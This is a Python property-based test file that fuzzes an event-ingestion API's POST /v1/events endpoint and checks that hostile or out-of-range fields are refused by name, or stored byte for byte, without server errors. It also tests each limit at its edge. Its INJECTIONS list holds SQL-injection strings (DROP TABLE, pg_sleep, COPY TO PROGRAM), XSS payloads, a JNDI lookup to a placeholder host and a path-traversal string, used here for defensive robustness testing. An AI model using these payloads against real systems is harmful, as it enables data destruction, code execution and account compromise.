"""Hostile event payloads on POST /v1/events, every event type, both backends.

Each generated batch ends with one event of a given type (the earlier events are what it
needs: the complaint it steps on, the order it activates), one field of which is replaced,
dropped or added: unicode of every kind, control characters, very long strings, deep
nesting, huge and negative numbers, NaN and Infinity, SQL and HTML injection, time zone
offsets at the extremes, dates far in the past and future, or a valid value. The answer is
either a 4xx whose error items name that field (at that event's index), with nothing stored;
or 200, and the event read back from the customer's history and from the stored row (the
export) is what was sent, text byte for byte. Never a 5xx.

The limits themselves, each at its edge (at the limit accepted, one past refused), follow.
"""

from __future__ import annotations

import itertools
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone
from typing import Any

import hypothesis
import orjson
import pytest
from fastapi.testclient import TestClient
from hypothesis import strategies as st

from contacthub.adapters.http.app import create_app
from contacthub.bootstrap import ContactHub, build
from contacthub.config import Settings
from contacthub.contract import CHANNEL_EVENTS, MAX_BATCH, PERSONAL_FIELDS, RESERVED_EVENT_ID_PREFIXES, normalise_msisdn
from contacthub.domain.complaint import MAX_ESCALATION_LEVEL
from contacthub.domain.vocabulary import Channel, Direction, Outcome, Segment, Severity, Tier
from helpers import complaint_opened, contact, event, registered
from support.auth import allow_everything
from support.databases import BACKENDS, fresh_database_url

EXAMPLES = 150
"""Generated batches per backend: bounded, so the file stays well under a minute on 2 cores."""

SEED_CUSTOMER, SEED_MSISDN = "C1", "13800138000"
WHO = {"customer_id": SEED_CUSTOMER}


# --- one served app per backend --------------------------------------------------------------------


@dataclass
class Served:
    hub: ContactHub
    client: TestClient

    def head(self) -> int:
        response = self.client.get("/v1/status")
        assert response.status_code == 200, response.text
        return int(response.json()["log_position"])


@pytest.fixture(scope="module", params=BACKENDS)
def served(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    url = fresh_database_url(str(request.param), request, tmp_path_factory)
    hub = build(Settings(database_url=url, read_wait_timeout_s=3.0, log_format="console", sla_watch_interval_s=0))
    try:
        with TestClient(allow_everything(create_app(hub))) as client:
            # Registered at the earliest moment an event may carry: a fuzzed occurred_at readdressed by
            # the seed's number still finds it (a moment before a registration may be nobody's).
            seeded = client.post("/v1/events", json={"events": [
                registered(SEED_CUSTOMER, (SEED_MSISDN,), occurred_at="2000-01-01T00:00:00Z")]})
            assert seeded.status_code == 200, seeded.text
            yield Served(hub, client)
    finally:
        hub.close()


# --- the batches: each type's event last, after what it needs -------------------------------------

_serial = itertools.count(1)


def scenario(type_: str) -> list[dict[str, Any]]:
    """A valid batch whose last event is of `type_`, on the seeded customer (or a new one), with fresh ids."""
    n = next(_serial)
    complaint, order = f"K-fuzz-{n}", f"O-fuzz-{n}"
    opened = complaint_opened(complaint, WHO)

    def step(step_type: str, **fields: Any) -> dict[str, Any]:
        return event(step_type, WHO, complaint_id=complaint, **fields)

    resolved = step("complaint.resolved", resolution="已退回多扣的 30 元")
    placed = event("order.placed", WHO, order_id=order, services=["plan_5g", "broadband"])
    batches: dict[str, list[dict[str, Any]]] = {
        "customer.registered": [registered(f"C-fuzz-{n}", (f"147{n:08d}",))],
        "customer.tier_changed": [event("customer.tier_changed", WHO, tier="diamond", arpu=428.5)],
        "customer.msisdn_added": [event("customer.msisdn_added", WHO, msisdn=f"146{n:08d}")],
        "customer.msisdn_released": [  # a customer of its own: a release must never free the seeded number
            registered(f"C-fuzz-{n}", (f"145{n:08d}",)),
            event("customer.msisdn_released", {"customer_id": f"C-fuzz-{n}"}, msisdn=f"145{n:08d}", reason="ported_out"),
        ],
        "customer.merged": [  # a duplicate of its own, merged into the seeded customer (which stays a survivor)
            registered(f"C-fuzz-{n}", (f"144{n:08d}",)),
            event("customer.merged", {"customer_id": f"C-fuzz-{n}"}, survivor_id=SEED_CUSTOMER),
        ],
        "customer.unmerged": [
            registered(f"C-fuzz-{n}", (f"143{n:08d}",)),
            event("customer.merged", {"customer_id": f"C-fuzz-{n}"}, survivor_id=SEED_CUSTOMER),
            event("customer.unmerged", {"customer_id": f"C-fuzz-{n}"}, survivor_id=SEED_CUSTOMER),
        ],
        "contact.logged": [contact(WHO, site="杭州西湖营业厅", order_id=order, complaint_id=complaint)],
        "order.placed": [placed],
        "service.activated": [placed, event("service.activated", WHO, order_id=order, service="plan_5g")],
        "order.cancelled": [placed, event("order.cancelled", WHO, order_id=order, reason="地址无资源")],
        "complaint.opened": [opened],
        "complaint.acknowledged": [opened, step("complaint.acknowledged")],
        "complaint.started": [opened, step("complaint.started", reason="开始处理")],
        "complaint.pended": [opened, step("complaint.pended", reason="等待客户确认")],
        "complaint.held": [opened, step("complaint.held", reason="等待工程排期")],
        "complaint.resumed": [opened, step("complaint.pended", reason="等待客户"), step("complaint.resumed", reason="客户已回复")],
        "complaint.handed_over": [opened, step("complaint.handed_over", to="agent-9", reason="换班")],
        "complaint.escalated": [opened, step("complaint.escalated", level=2, reason="超时")],
        "complaint.resolved": [opened, resolved],
        "complaint.followed_up": [opened, resolved, step("complaint.followed_up", satisfaction=4)],
        "complaint.closed": [opened, resolved, step("complaint.closed")],
        "complaint.reopened": [opened, resolved, step("complaint.reopened", reason="客户不满意")],
        "complaint.cancelled": [opened, step("complaint.cancelled", reason="客户撤回")],
        "complaint.rejected": [opened, step("complaint.rejected", reason="重复投诉")],
        "complaint.noted": [opened, step("complaint.noted", text="客户来电催办")],
        "complaint.linked": [  # the same issue lodged again: a second complaint linked to the first
            opened, complaint_opened(f"{complaint}-dup", WHO, channel="store"),
            event("complaint.linked", WHO, complaint_id=f"{complaint}-dup", primary_id=complaint, reason="同一问题"),
        ],
    }
    assert set(batches) == set(CHANNEL_EVENTS), "every event type a channel may post has a scenario"
    return batches[type_]


# --- values: valid ones of every kind, and hostile ones -------------------------------------------

INJECTIONS = [
    "'; DROP TABLE event_chain; --",
    "' OR '1'='1",
    "Robert'); DELETE FROM stored_events WHERE ('1'='1",
    "1; SELECT pg_sleep(5) --",
    "\\'; COPY (SELECT '') TO PROGRAM 'id' --",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg/onload=alert('x')>",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "${jndi:ldap://example.invalid/a}",
    "../../../../etc/passwd",
    "%00%0d%0a",
    "enc:v1:AAAAAAAAAAAAAAAA",  # looks like a stored personal field
    "[erased]",
    "\u202eevil\u202c",  # right-to-left override
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349",  # zalgo
    "e\u0301 vs \u00e9",  # the same letter composed and decomposed: never normalised
    "\ufeffBOM",
    "line\u2028separator\u2029",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",  # one family emoji, seven code points
    "\U00010348\U0010fffd",  # outside the BMP
    "tab\there\nnewline",  # the two control characters text may hold
    "王芳（工号 ZJ0457）",
]

_FORMS = st.characters(exclude_categories=("Cc", "Cs"))
"""Characters free text may hold (with tab and newline, below): everything but control characters and surrogates."""


def valid_text(max_size: int) -> st.SearchStrategy[str]:
    return st.one_of(
        st.text(_FORMS | st.sampled_from("\t\n"), min_size=1, max_size=40).filter(str.strip),
        st.sampled_from(INJECTIONS),
        st.sampled_from(["汉", "a", "😀"]).map(lambda ch: ch * max_size),  # exactly at the limit
    )


def rfc3339(moment: datetime, offset_minutes: int, digits: int, sep: str, utc_letter: str) -> str:
    """`moment` written in the zone `offset_minutes` from UTC, with `digits` of fraction."""
    local = moment.astimezone(timezone(timedelta(minutes=offset_minutes)))
    text = local.strftime(f"%Y-%m-%d{sep}%H:%M:%S")
    if digits:
        text += "." + f"{local.microsecond:06d}{'987'}"[:digits]
    if offset_minutes == 0 and utc_letter:
        return text + utc_letter
    sign = "+" if offset_minutes >= 0 else "-"
    return text + f"{sign}{abs(offset_minutes) // 60:02d}:{abs(offset_minutes) % 60:02d}"


NOW = datetime.now(timezone.utc)
OFFSETS = st.one_of(st.sampled_from([0, 480, -300, 330, 845, 14 * 60, -12 * 60, 23 * 60 + 59, -(23 * 60 + 59)]),
                    st.integers(-(23 * 60 + 59), 23 * 60 + 59))
valid_moments = st.builds(
    rfc3339,
    st.datetimes(datetime(2000, 1, 2), (NOW - timedelta(days=2)).replace(tzinfo=None), timezones=st.just(timezone.utc)),
    OFFSETS,
    st.integers(0, 9),
    st.sampled_from(["T", "t", " "]),
    st.sampled_from(["Z", "z", ""]),
)
hostile_moments = st.one_of(
    st.sampled_from([
        "0001-01-01T00:00:00Z", "1970-01-01T00:00:00Z", "1999-12-31T23:59:59.999999Z", "9999-12-31T23:59:59+14:00",
        "9999-12-31T23:59:59.999999-23:59", "2026-11-02T09:00:00", "2026-11-02T09:00:00+24:00", "2026-11-02T09:00:00+0800",
        "2026-11-02T09:00+08:00", "2026-02-30T09:00:00Z", "2026-11-02T24:00:00Z", "2026-12-31T23:59:60Z",
        "2026-11-02T09:00:00.1234567890Z", "１９９９-01-01T00:00:00Z", "2026-11-02T09:00:00Z\n", "", "now", "1730509200",
    ]),
    st.integers(-(2**40), 2**40),
    st.builds(rfc3339, st.datetimes(datetime(1, 1, 2), datetime(1999, 12, 30), timezones=st.just(timezone.utc)),
              OFFSETS, st.integers(0, 6), st.just("T"), st.just("Z")),
    st.builds(rfc3339, st.datetimes((NOW + timedelta(days=3)).replace(tzinfo=None), datetime(9999, 12, 30),
                                    timezones=st.just(timezone.utc)),
              OFFSETS, st.integers(0, 6), st.just("T"), st.just("Z")),
)


MAX_JSON_DEPTH = 1024
"""How deeply a body's arrays and objects may nest (orjson's limit); deeper: 400 `body` (docs/limits.md)."""
EVENT_DEPTH = 3
"""The levels around an event's field: the body object, its `events` array, the event object."""


class Raw:
    """JSON text put into the body as is: what a JSON encoder cannot write (NaN, 1e400, a lone surrogate, 1,100 levels).

    `json`: whether the body holding it is still valid JSON for ContactHub's parser.
    """

    def __init__(self, text: str, json: bool) -> None:
        self.text = text
        self.json = json

    def __repr__(self) -> str:
        return f"Raw({self.text[:40]!r}{'…' if len(self.text) > 40 else ''})"


def nested(depth: int, bracket: str) -> Raw:
    opening, closing = (("[", "]") if bracket == "[" else ('{"a":', "}"))
    text = opening * depth + ("1" if bracket == "{" else "") + closing * depth
    return Raw(text, json=EVENT_DEPTH + depth <= MAX_JSON_DEPTH)


NOT_JSON = st.sampled_from(["NaN", "Infinity", "-Infinity", "1e400", '"\\ud800"', "01"]).map(lambda t: Raw(t, json=False))
"""Values only a JSON body that is not valid JSON could hold: the body is refused (400, field `body`)."""

hostile = st.one_of(
    st.text(max_size=30),  # any code point, control characters included
    st.text(st.characters(categories=("Cc",)), min_size=1, max_size=5).map(lambda cc: f"before{cc}after"),
    st.sampled_from(["", " ", "\t\n ", "\u3000"]),  # blank
    st.sampled_from(["a", "汉", "😀", "\u0301"]).flatmap(
        lambda ch: st.sampled_from([65, 129, 201, 2001, 20_000]).map(lambda n: ch * n)),  # one past the limits, and far
    st.integers(-(2**80), 2**80),
    st.sampled_from([0, -1, 86_401, 10_000_001, 2**63, -(2**63) - 1, 2**64, 1e308, -1e308, 5e-324, -0.0, 0.5]),
    st.floats(allow_nan=False, allow_infinity=False),
    st.sampled_from([None, True, False, [], {}, [None], {"$gt": ""}, ["13800138000"], {"zh": "王"}]),
    st.builds(nested, st.sampled_from([2, 999, 1000, 1021, 1022, 1100]) | st.integers(1, 1100), st.sampled_from(["[", "{"])),
    hostile_moments,
    st.sampled_from(INJECTIONS),
)

_IDENTIFIER = st.from_regex(r"\A[A-Za-z0-9][A-Za-z0-9._:\-]{0,63}\Z")
_SERVICE = st.from_regex(r"\A[a-z][a-z0-9_]{0,31}\Z")
_numbers = itertools.count(10_000_000)


def _fresh_msisdn(notation: str) -> str:
    national = f"139{next(_numbers):08d}"
    return {"national": national, "+86": f"+86{national}", "0086": f"0086{national}", "86": f"86{national}"}[notation]


VALID: dict[str, st.SearchStrategy[Any]] = {
    "event_id": st.from_regex(r"\A[\x21-\x7e]{1,128}\Z").filter(lambda s: not s.startswith(RESERVED_EVENT_ID_PREFIXES)),
    "occurred_at": valid_moments,
    "customer_id": _IDENTIFIER,
    "order_id": _IDENTIFIER,
    "complaint_id": _IDENTIFIER,
    "name": valid_text(200), "reason": valid_text(200), "handled_by": valid_text(200), "site": valid_text(200),
    "category": valid_text(200), "by": valid_text(200), "to": valid_text(200),
    "summary": valid_text(2000), "resolution": valid_text(2000), "text": valid_text(2000),
    "channel": st.sampled_from([c.value for c in Channel]),
    "direction": st.sampled_from([d.value for d in Direction]),
    "outcome": st.sampled_from([o.value for o in Outcome]),
    "segment": st.sampled_from([s.value for s in Segment]),
    "tier": st.sampled_from([t.value for t in Tier]),
    "severity": st.sampled_from([s.value for s in Severity]),
    "duration_s": st.sampled_from([0, 86_400]) | st.integers(0, 86_400),
    "satisfaction": st.integers(1, 5),
    "level": st.integers(1, MAX_ESCALATION_LEVEL),
    "arpu": st.sampled_from([0, 10_000_000, 0.01]) | st.integers(0, 10_000_000) | st.floats(0, 10_000_000),
    "msisdns": st.lists(st.sampled_from(["national", "+86", "0086", "86"]), min_size=1, max_size=50).map(
        lambda notations: [_fresh_msisdn(n) for n in notations]),
    "services": st.lists(_SERVICE, min_size=1, max_size=10, unique=True),
    "service": _SERVICE,
    "msisdn": st.sampled_from([SEED_MSISDN, "+86" + SEED_MSISDN, "0086" + SEED_MSISDN]),
}
KNOWN_FIELDS = {name for model in CHANNEL_EVENTS.values() for name in model.model_fields}


# --- one posting: the batch, and what was done to its last event ---------------------------------------


@dataclass
class Posting:
    batch: list[dict[str, Any]]
    change: str  # replace | drop | add | valid
    field: str

    @property
    def target(self) -> dict[str, Any]:
        return self.batch[-1]

    @property
    def index(self) -> int:
        return len(self.batch) - 1

    def body(self) -> bytes:
        raws: list[Raw] = []

        def placeholder(value: Any) -> Any:
            if isinstance(value, Raw):
                raws.append(value)
                return f"@@raw{len(raws) - 1}@@"
            return value

        events = [{k: placeholder(v) for k, v in e.items()} for e in self.batch]
        text = json.dumps({"events": events}, ensure_ascii=False)
        for i, raw in enumerate(raws):
            text = text.replace(f'"@@raw{i}@@"', raw.text)
        return text.encode("utf-8", "surrogatepass")

    @property
    def not_json(self) -> bool:
        value = self.target.get(self.field)
        return isinstance(value, Raw) and not value.json


ID_ONLY = ("customer.registered", "customer.msisdn_added", "customer.msisdn_released", "customer.merged",
           "customer.unmerged")
"""Types that name their customer by id only (a number in them is the fact's own, or they name none)."""


@st.composite
def postings(draw: st.DrawFn) -> Posting:
    type_ = draw(st.sampled_from(sorted(CHANNEL_EVENTS)))
    batch = [dict(e) for e in scenario(type_)]
    target = batch[-1]
    # Registrations and number changes name their customer by id only (their msisdn is the fact's own).
    if type_ not in ID_ONLY and draw(st.booleans()):
        del target["customer_id"]
        target["msisdn"] = draw(VALID["msisdn"])  # the other way to name the customer
    change = draw(st.sampled_from(["replace", "replace", "drop", "add", "valid", "valid", "valid"]))
    fields = sorted(k for k in target if k != "type" or change == "replace")
    if change == "add":
        field = draw(st.text(min_size=1, max_size=20).filter(lambda name: name not in KNOWN_FIELDS | {"type"}))
        target[field] = draw(hostile | NOT_JSON)
    elif change == "drop":
        field = draw(st.sampled_from(fields))
        del target[field]
    elif change == "valid":
        field = draw(st.sampled_from([f for f in fields if f in VALID]))
        target[field] = draw(VALID[field])
    else:
        field = draw(st.sampled_from(fields))
        target[field] = draw(hostile | NOT_JSON)
    return Posting(batch, change, field)


# --- the oracle -----------------------------------------------------------------------------------

ADDRESS = {"customer_id", "msisdn"}
ENVELOPE = {"type", "event_id", "occurred_at", "customer_id", "msisdn"}
_RFC3339 = re.compile(r"^(\d{4}-\d{2}-\d{2})[Tt ](\d{2}:\d{2}:\d{2})(?:\.(\d{1,9}))?([Zz]|[+-]\d{2}:\d{2})$")


def instant(text: str) -> datetime:
    """An RFC 3339 text as the aware datetime ContactHub keeps: the fraction to the microsecond, the offset as written."""
    match = _RFC3339.fullmatch(text)
    assert match, text
    day, clock, fraction, offset = match.groups()
    micro = (fraction or "").ljust(6, "0")[:6]
    zone = "+00:00" if offset in ("Z", "z") else offset
    return datetime.fromisoformat(f"{day}T{clock}.{micro}{zone}")


REFERENCES = {"order_id", "complaint_id"}
"""What an event refers to within its customer: addressed to another customer, it is judged on that
customer's history, where the order or complaint it names may not exist (409 naming the reference)."""


def names(error: dict[str, Any], field: str, event: dict[str, Any]) -> bool:
    named = str(error["field"])
    if field in ADDRESS:
        return named in ADDRESS or (named in REFERENCES and named in event)
    return named == field or named.startswith(field + ".")


def assert_refused(served: Served, posting: Posting, response: Any, head_before: int) -> None:
    body = response.json()
    assert set(body) == {"errors"} and body["errors"], body
    for error in body["errors"]:
        assert isinstance(error["field"], str) and error["field"] not in ("", "request"), error
        assert isinstance(error["message"], str) and error["message"], error
    if posting.not_json:
        assert response.status_code == 400, response.text
        assert [e["field"] for e in body["errors"]] == ["body"], body
    else:
        assert any(e.get("index") == posting.index and names(e, posting.field, posting.target) for e in body["errors"]), (
            f"no error names {posting.field!r} at index {posting.index}: {body}")
    assert served.head() == head_before, "a refused batch stored something"


def owner_of(served: Served, posting: Posting, position: int) -> str:
    target = posting.target
    if "customer_id" in target:
        return str(target["customer_id"])
    response = served.client.get("/v1/customers", params={"msisdn": target["msisdn"], "min_position": position})
    assert response.status_code == 200, response.text
    return str(response.json()["customer_id"])


def expected_payload(type_: str, target: dict[str, Any]) -> dict[str, Any]:
    expected = {k: v for k, v in target.items() if k not in ENVELOPE or (type_ == "customer.registered" and k == "customer_id")}
    if "msisdns" in expected:
        expected["msisdns"] = [normalise_msisdn(m) for m in expected["msisdns"]]
    if "arpu" in expected:
        expected["arpu"] = float(expected["arpu"])
    if type_ == "complaint.escalated" and expected.get("level") is None:
        expected["level"] = 1  # left out or null: one above the new complaint's level 0
    return expected


def assert_stored_as_sent(served: Served, posting: Posting, response: Any) -> None:
    target, type_ = posting.target, str(posting.target["type"])
    result = response.json()["results"][-1]
    assert result["event_id"] == target["event_id"] and result["status"] == "recorded", response.text
    position = int(result["position"])
    customer_id = owner_of(served, posting, position)

    history = served.client.get(f"/v1/customers/{customer_id}/history", params={"after": position - 1, "limit": 1})
    assert history.status_code == 200, history.text
    [stored] = history.json()["events"]
    assert (stored["position"], stored["type"], stored["event_id"]) == (position, type_, target["event_id"])
    assert instant(stored["occurred_at"]) == instant(target["occurred_at"])
    for field, value in expected_payload(type_, target).items():
        assert stored["payload"][field] == value, (field, stored["payload"][field], value)
        assert type(stored["payload"][field]) is type(value), (field, stored["payload"][field], value)

    # The stored row itself: the offset the channel wrote, and every field not stored encrypted, as sent.
    export = served.client.get(f"/v1/customers/{customer_id}/export")
    assert export.status_code == 200, export.text
    states = [orjson.loads(line["state"]) for line in map(orjson.loads, export.content.splitlines()[1:]) if line["state"]]
    [state] = [s for s in states if s["event_id"] == target["event_id"]]
    sent = instant(target["occurred_at"])
    kept = datetime.fromisoformat(state["occurred_at"])
    assert (kept, kept.utcoffset()) == (sent, sent.utcoffset())
    personal = set(PERSONAL_FIELDS.get(type_, ()))
    for field, value in expected_payload(type_, target).items():
        if field in personal:
            assert str(state[field]).startswith("enc:v1:"), (field, state[field])
        else:
            assert state[field] == value, (field, state[field], value)


@hypothesis.settings(max_examples=EXAMPLES, deadline=None, database=None,
                     suppress_health_check=[hypothesis.HealthCheck.too_slow, hypothesis.HealthCheck.data_too_large])
@hypothesis.given(posting=postings())
def test_every_event_is_refused_naming_the_field_or_stored_as_sent(served: Served, posting: Posting) -> None:
    head_before = served.head()
    response = served.client.post("/v1/events", content=posting.body(), headers={"content-type": "application/json"})
    assert response.status_code < 500, response.text
    hypothesis.event("outcome", f"{response.status_code} after {posting.change}")
    if response.status_code == 200:
        assert posting.change in ("valid", "drop", "replace"), f"an unknown field was accepted: {response.text}"
        assert_stored_as_sent(served, posting, response)
    else:
        assert 400 <= response.status_code < 500, response.text
        assert_refused(served, posting, response, head_before)


def test_an_event_moved_to_another_customer_may_be_refused_for_what_it_refers_to(served: Served) -> None:
    """Found by the fuzz: a complaint step whose customer_id was changed to another registered
    customer is refused naming complaint_id (the complaint its batch opens is the first customer's), which is right."""
    other = f"C-other-{serial()}"
    assert post(served, registered(other, (f"139{serial():08d}",))).status_code == 200
    batch = [dict(e) for e in scenario("complaint.noted")]
    batch[-1]["customer_id"] = other
    posting = Posting(batch, "valid", "customer_id")
    head_before = served.head()
    response = served.client.post("/v1/events", content=posting.body(), headers={"content-type": "application/json"})
    assert response.status_code == 409, response.text
    assert [e["field"] for e in response.json()["errors"]] == ["complaint_id"]
    assert_refused(served, posting, response, head_before)


# --- each limit at its edge: at the limit accepted, one past refused naming the field (docs/limits.md) ---------


def post(served: Served, *events: Any) -> Any:
    return served.client.post("/v1/events", json={"events": list(events)})


def refused_fields(response: Any, status: int = 422) -> set[str]:
    assert response.status_code == status, response.text
    return {e["field"] for e in response.json()["errors"]}


def serial() -> int:
    return next(_serial)


# (what, a builder of the event at the limit (True) or one past it (False), the field the refusal names)
EDGES: list[tuple[str, Any, str]] = [
    ("Text: 200 characters", lambda at: contact(WHO, reason="汉" * (200 if at else 201)), "reason"),
    ("Text: 1 character, not blank", lambda at: contact(WHO, handled_by="a" if at else " "), "handled_by"),
    ("LongText: 2000 characters", lambda at: complaint_opened(f"K-edge-{serial()}", WHO, summary="😀" * (2000 if at else 2001)),
     "summary"),
    ("event_id: 128 printable ASCII", lambda at: contact(WHO, event_id=f"e{serial()}-".ljust(128 if at else 129, "x")), "event_id"),
    ("Identifier: 64 characters", lambda at: complaint_opened(f"K{serial()}-".ljust(64 if at else 65, "k"), WHO),
     "complaint_id"),
    ("ServiceName: 32 characters", lambda at: event("order.placed", WHO, order_id=f"O-edge-{serial()}",
                                                    services=["s".ljust(32 if at else 33, "v")]), "services.0"),
    ("msisdn: 15 digits", lambda at: registered(f"C-edge-{serial()}", (f"{serial():0{15 if at else 16}d}",)), "msisdns.0"),
    ("msisdn: a + and 15 digits", lambda at: registered(f"C-edge-{serial()}", (f"+{serial():0{15 if at else 16}d}",)), "msisdns.0"),
    ("msisdn: 5 digits", lambda at: registered(f"C-edge-{serial()}", (f"{serial() % 10_000:0{5 if at else 4}d}",)), "msisdns.0"),
    ("msisdns: 50 numbers", lambda at: registered(f"C-edge-{serial()}", tuple(f"1580{serial():07d}" for _ in range(50 if at else 51))),
     "msisdns"),
    ("services: 10", lambda at: event("order.placed", WHO, order_id=f"O-edge-{serial()}",
                                      services=[f"svc_{i}" for i in range(10 if at else 11)]), "services"),
    ("duration_s: 86,400", lambda at: contact(WHO, duration_s=86_400 if at else 86_401), "duration_s"),
    ("duration_s: 0", lambda at: contact(WHO, duration_s=0 if at else -1), "duration_s"),
    ("arpu: 10,000,000", lambda at: event("customer.tier_changed", WHO, tier="gold", arpu=10_000_000 if at else 10_000_000.01),
     "arpu"),
    ("arpu: 0", lambda at: event("customer.tier_changed", WHO, tier="gold", arpu=0 if at else -0.01), "arpu"),
    ("occurred_at: from 2000-01-01", lambda at: contact(WHO, occurred_at="2000-01-01T00:00:00Z" if at
                                                        else "1999-12-31T23:59:59.999999Z"), "occurred_at"),
    ("occurred_at: offsets up to ±23:59", lambda at: contact(WHO, occurred_at="2026-11-02T09:00:00-23:59" if at
                                                             else "2026-11-02T09:00:00-24:00"), "occurred_at"),
]


@pytest.mark.parametrize(("what", "build", "field"), EDGES, ids=[e[0] for e in EDGES])
def test_each_event_limit_holds_at_its_edge(served: Served, what: str, build: Any, field: str) -> None:
    at_limit = post(served, build(True))
    assert at_limit.status_code == 200, at_limit.text

    head = served.head()
    past = post(served, build(False))

    assert field in refused_fields(past), past.text
    assert served.head() == head


def complaint_at_level(served: Served, level: int) -> str:
    complaint = f"K-level-{serial()}"
    steps = [event("complaint.escalated", WHO, complaint_id=complaint, reason="超时", level=lv) for lv in range(1, level + 1)]
    assert post(served, complaint_opened(complaint, WHO), *steps).status_code == 200
    return complaint


def test_escalation_levels_and_satisfaction_hold_at_their_edges(served: Served) -> None:
    top = complaint_at_level(served, MAX_ESCALATION_LEVEL - 1)
    assert post(served, event("complaint.escalated", WHO, complaint_id=top, reason="r", level=MAX_ESCALATION_LEVEL)).status_code == 200
    beyond = post(served, event("complaint.escalated", WHO, complaint_id=complaint_at_level(served, 0), reason="r",
                                level=MAX_ESCALATION_LEVEL + 1))
    assert "level" in refused_fields(beyond)

    for satisfaction, accepted in ((1, True), (5, True), (0, False), (6, False)):
        complaint = f"K-csat-{serial()}"
        response = post(served, complaint_opened(complaint, WHO),
                        event("complaint.resolved", WHO, complaint_id=complaint, resolution="done"),
                        event("complaint.followed_up", WHO, complaint_id=complaint, satisfaction=satisfaction))
        assert response.status_code == 200 if accepted else "satisfaction" in refused_fields(response), response.text


def test_a_batch_holds_1000_events_and_not_1001(served: Served) -> None:
    assert post(served, *[contact(WHO) for _ in range(MAX_BATCH)]).status_code == 200

    head = served.head()
    response = post(served, *[contact(WHO) for _ in range(MAX_BATCH + 1)])

    assert refused_fields(response) == {"events"}
    assert served.head() == head


def test_json_nests_1024_levels_deep_and_not_1025(served: Served) -> None:
    def with_extra_field(depth: int) -> bytes:
        event_text = json.dumps(contact(WHO))[:-1] + ', "extra": ' + "[" * depth + "]" * depth + "}"
        return ('{"events": [' + event_text + "]}").encode()

    deepest = served.client.post("/v1/events", content=with_extra_field(MAX_JSON_DEPTH - EVENT_DEPTH),
                                 headers={"content-type": "application/json"})
    too_deep = served.client.post("/v1/events", content=with_extra_field(MAX_JSON_DEPTH - EVENT_DEPTH + 1),
                                  headers={"content-type": "application/json"})

    assert refused_fields(deepest) == {"extra"}  # parsed: the unknown field is named
    assert refused_fields(too_deep, 400) == {"body"}


def test_a_channel_key_posting_a_deeply_nested_channel_gets_422_not_a_server_error(served: Served) -> None:
    """Regression: the channel rule echoed the posted `channel` into its 403 message; 1,000 levels of it overflowed
    Python's recursion limit (500). A channel that is not text is now left to validation, whoever posts it."""
    from contacthub.domain.roles import Role
    from support.auth import bearer, new_key

    keys = {channel: new_key(served.hub, Role.CHANNEL, f"edge-{channel}-{serial()}", channel) for channel in ("hotline", "boss")}
    for depth in (1, 1000):
        body = json.dumps({"events": [contact(WHO, channel="@@channel@@")]}).replace(
            '"@@channel@@"', "[" * depth + '"hotline"' + "]" * depth)
        for key in keys.values():
            response = served.client.post("/v1/events", content=body,
                                          headers={**bearer(key), "content-type": "application/json"})
            assert refused_fields(response) == {"channel"}, (depth, response.text[:300])


def test_the_future_tolerance_holds_to_the_second(clocked_client: TestClient, clock: Any) -> None:
    assert clocked_client.post("/v1/events", json={"events": [registered(SEED_CUSTOMER, (SEED_MSISDN,))]}).status_code == 200
    tolerance = Settings().future_tolerance_s
    latest = clock() + timedelta(seconds=tolerance)

    at_limit = clocked_client.post("/v1/events", json={"events": [contact(WHO, occurred_at=latest.isoformat())]})
    past = clocked_client.post(
        "/v1/events", json={"events": [contact(WHO, occurred_at=(latest + timedelta(seconds=1)).isoformat())]})

    assert at_limit.status_code == 200, at_limit.text
    assert refused_fields(past) == {"occurred_at"}


@pytest.fixture
def small_body_hub(database_url: str) -> Iterator[ContactHub]:
    hub = build(Settings(database_url=database_url, max_body_bytes=4096, read_wait_timeout_s=3.0,
                         log_format="console", sla_watch_interval_s=0))
    try:
        yield hub
    finally:
        hub.close()


def test_a_body_of_exactly_max_body_bytes_is_accepted_and_one_byte_more_is_413(small_body_hub: ContactHub) -> None:
    limit = small_body_hub.settings.max_body_bytes
    batch = orjson.dumps({"events": [registered(SEED_CUSTOMER, (SEED_MSISDN,))]})
    with TestClient(allow_everything(create_app(small_body_hub))) as client:
        headers = {"content-type": "application/json"}
        at_limit = client.post("/v1/events", content=batch.ljust(limit), headers=headers)  # JSON allows trailing spaces
        past = client.post("/v1/events", content=batch.ljust(limit + 1), headers=headers)
        streamed = client.post("/v1/events", content=iter([batch.ljust(limit + 1)]), headers=headers)

    assert at_limit.status_code == 200, at_limit.text
    assert refused_fields(past, 413) == {"body"}
    assert refused_fields(streamed, 413) == {"body"}
